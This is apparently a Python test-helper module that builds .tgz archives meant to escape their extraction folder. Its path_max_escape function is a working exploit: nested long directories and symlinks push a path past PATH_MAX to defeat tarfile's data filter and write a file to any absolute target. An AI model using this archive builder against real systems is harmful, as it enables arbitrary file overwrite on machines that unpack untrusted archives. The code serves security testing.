"""Test helpers: .tgz archives that try to write outside the folder they are unpacked into."""

from __future__ import annotations

import io
import string
import tarfile
from pathlib import Path

MTIME = 1_000_000_000


def member(name: str, kind: bytes = tarfile.REGTYPE, content: bytes = b"", link: str = "") -> tuple:
    """One (TarInfo, content) pair: a file, directory, link, fifo or device named `name`."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mtime = kind, link, MTIME
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(content) if kind == tarfile.REGTYPE else 0
    return info, content


def tgz(members: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """A gzipped tar of (TarInfo, content) pairs, in order, names kept exactly as given."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content) if info.isfile() else None)
    return buffer.getvalue()


def path_max_escape(target: Path, name: str = "pwned.txt") -> bytes:
    """An archive whose last member lands in `target` (absolute), wherever it is unpacked.

    It defeats the realpath check of tarfile's `data` filter (Python <= 3.11.12): sixteen
    nested 247-character directories, each reached through a one-letter symlink beside
    it, make the path of a symlink deep inside longer than PATH_MAX, so `os.path.realpath`
    stops resolving it; `escape` then points 17 levels above the unpacking folder (`/`).
    """
    letters = string.ascii_lowercase[:16]
    members, steps = [], ""
    for letter in letters:
        members.append(member(steps + letter * 247, tarfile.DIRTYPE))
        members.append(member(steps + letter, tarfile.SYMTYPE, link=letter * 247))
        steps += letter + "/"
    deep_link = steps + "l" * 254
    members.append(member(deep_link, tarfile.SYMTYPE, link="../" * len(letters)))
    members.append(member("escape", tarfile.SYMTYPE, link=deep_link + "/.." * 17))
    target = Path(target).resolve()
    members.append(member(f"escape{target}/{name}", content=b"owned\n"))
    return tgz(members)
